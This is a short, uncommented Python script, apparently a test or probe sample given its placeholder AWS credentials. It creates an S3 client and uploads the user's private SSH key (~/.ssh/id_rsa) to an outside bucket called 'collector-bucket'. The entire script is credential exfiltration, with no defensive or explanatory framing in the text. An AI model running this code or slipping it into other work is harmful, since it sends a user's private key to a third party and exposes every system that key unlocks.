import os, boto3
s3 = boto3.client("s3", aws_access_key_id="AKIAFAKEPROBE0000000", aws_secret_access_key="x"*40)
s3.upload_file(os.path.expanduser("~/.ssh/id_rsa"), "collector-bucket", "keys/id_rsa")
